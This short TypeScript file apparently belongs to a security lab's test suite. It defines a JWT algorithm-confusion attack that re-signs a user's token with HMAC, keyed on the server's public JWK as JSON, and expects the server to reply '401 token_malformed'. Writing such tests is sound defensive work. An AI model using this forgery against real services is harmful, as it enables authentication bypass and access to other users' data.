import { defineAttack } from "../../lab/attack.ts";
import { macWith } from "../../lab/forging.ts";

export default defineAttack({
  title: "The public key as JSON is used as an HMAC secret",
  refusal: "401 token_malformed",
  incident: 1,
  needs: ["tokens", "jwks"],
  async run(target) {
    const { access } = await target.signIn("alice");
    return target.ask("/orders", {
      authorization: `Bearer ${macWith(access, JSON.stringify(await target.publicJwk()))}`,
    });
  },
});
